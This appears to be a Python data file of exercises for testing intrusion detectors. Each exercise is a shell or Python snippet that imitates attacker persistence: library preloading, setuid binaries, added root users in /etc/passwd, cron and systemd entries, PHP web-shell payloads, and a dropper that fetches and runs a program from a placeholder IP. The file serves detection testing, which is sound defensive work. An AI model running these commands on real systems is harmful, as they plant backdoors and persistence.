"""Exercises: what is left behind so as to come back. Values only; a stage carries them out."""

from __future__ import annotations

from periderm.model.exercise import Exercise, Variant
from periderm.model.text import Text

EXERCISES: tuple[Exercise, ...] = (
    Exercise(
        id="EXE-033",
        title=Text("Preload a library", "预加载动态库"),
        detectors=("RUN-033",),
        behaviours=(33,),
        script="cp /bin/true /tmp/e33.so; LD_PRELOAD=/tmp/e33.so /bin/true 2>/dev/null; rm -f /tmp/e33.so; true",
    ),
    Exercise(
        id="EXE-033-FILE",
        title=Text("Preload a library for all programs", "为所有程序预加载动态库"),
        detectors=("RUN-033",),
        behaviours=(33,),
        script="echo /tmp/none.so > /etc/ld.so.preload; rm -f /etc/ld.so.preload",
    ),
    Exercise(
        id="EXE-034",
        title=Text("Set the set-user-id bit", "设置 setuid 位"),
        detectors=("RUN-034",),
        behaviours=(34,),
        script="cp /bin/true /tmp/e34; chmod 4755 /tmp/e34; rm -f /tmp/e34",
    ),
    Exercise(
        id="EXE-034-CALL",
        title=Text("Set it by a direct call", "直接调用系统调用设置"),
        detectors=("RUN-034",),
        behaviours=(34,),
        language="python",
        variant=Variant.SYSCALL,
        script=r"""import os, shutil
shutil.copyfile("/bin/true", "/tmp/e34c")
os.chmod("/tmp/e34c", 0o6755)
os.unlink("/tmp/e34c")
""",
    ),
    Exercise(
        id="EXE-037",
        title=Text("Add a user to passwd", "向 passwd 添加用户"),
        detectors=("RUN-037",),
        behaviours=(37,),
        script='echo "exercise:x:4711:4711::/:/bin/sh" >> /etc/passwd; true',
    ),
    Exercise(
        id="EXE-124",
        title=Text("Add a second root", "添加第二个 root"),
        detectors=("RUN-124", "RUN-037", "RUN-123"),
        behaviours=(37,),
        script="useradd -o -u 0 -M exercise-root 2>/dev/null; cp /bin/true /tmp/useradd; /tmp/useradd -o -u 0 -g 0 systemd-helper; rm -f /tmp/useradd; true",
    ),
    Exercise(
        id="EXE-038",
        title=Text("Add a line to cron", "向 cron 添加一行"),
        detectors=("RUN-038",),
        behaviours=(38,),
        script='mkdir -p /etc/cron.d; echo "* * * * * root true" > /etc/cron.d/exercise; rm -f /etc/cron.d/exercise',
    ),
    Exercise(
        id="EXE-038-UNIT",
        title=Text("Add a unit of systemd", "添加 systemd 单元"),
        detectors=("RUN-038",),
        behaviours=(38,),
        script='mkdir -p /etc/systemd/system; printf "[Service]\\nExecStart=/bin/true\\n" > /etc/systemd/system/exercise.service; rm -f /etc/systemd/system/exercise.service',
    ),
    Exercise(
        id="EXE-039",
        title=Text("Change a shell start file", "修改 shell 启动文件"),
        detectors=("RUN-039",),
        behaviours=(39,),
        script='echo "true" >> /root/.bashrc; echo true > /etc/profile.d/e.sh 2>/dev/null; rm -f /root/.bashrc /etc/profile.d/e.sh',
    ),
    Exercise(
        id="EXE-040",
        title=Text("Write into /etc", "写入 /etc"),
        detectors=("RUN-040",),
        behaviours=(40,),
        script="echo x > /etc/exercise.conf; rm -f /etc/exercise.conf",
    ),
    Exercise(
        id="EXE-062",
        title=Text("Write a web shell into a served folder", "在网站目录写入网页后门"),
        detectors=("RUN-062", "RUN-161"),
        behaviours=(62,),
        script='mkdir -p /var/www/html; printf "<?php system(\\$_GET[0]); ?>" > /var/www/html/e62.php; sleep 3; rm -rf /var/www/html/e62.php',
    ),
    Exercise(
        id="EXE-062-MOVE",
        title=Text("Move one there under another name", "以改名方式移入"),
        detectors=("RUN-062", "RUN-161"),
        behaviours=(62,),
        variant=Variant.SPLIT,
        script='mkdir -p /var/www/html; printf "GIF89a<?php eval(\\$_POST[1]); ?>" > /tmp/e62.gif; mv /tmp/e62.gif /var/www/html/e62.phtml; sleep 3; rm -f /var/www/html/e62.phtml',
    ),
    Exercise(
        id="EXE-161",
        title=Text("Drop a script that fetches and starts a program", "投放下载并启动程序的脚本"),
        detectors=("RUN-161", "RUN-005"),
        behaviours=(46,),
        script=r"""cat > /tmp/e161.sh <<'X'
#!/bin/sh
exit 0
cd /tmp || cd /var/run
wget http://203.0.113.5/x; chmod 777 x; ./x
rm -rf x
X
sed -i 's/^    //' /tmp/e161.sh; sh /tmp/e161.sh; sleep 3; rm -f /tmp/e161.sh
""",
    ),
)
